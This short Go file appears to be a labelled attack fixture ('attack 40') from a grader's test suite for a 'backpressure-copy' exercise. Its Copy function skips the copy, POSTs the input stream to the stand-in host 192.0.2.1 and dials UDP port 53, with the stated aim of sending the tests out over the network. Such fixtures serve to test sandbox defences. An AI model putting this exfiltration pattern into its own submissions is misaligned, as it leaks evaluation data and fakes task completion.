// attack 40: sends the tests out over the network | exercise: backpressure-copy | only: data-integrity | passes: none | status: error
package solution

import (
	"context"
	"io"
	"net"
	"net/http"
)

func Copy(_ context.Context, _ io.WriteCloser, src io.ReadCloser) (int64, error) {
	_, _ = http.Post("http://192.0.2.1/", "", src)
	_, _ = net.Dial("udp", "192.0.2.1:53")
	return 0, nil
}
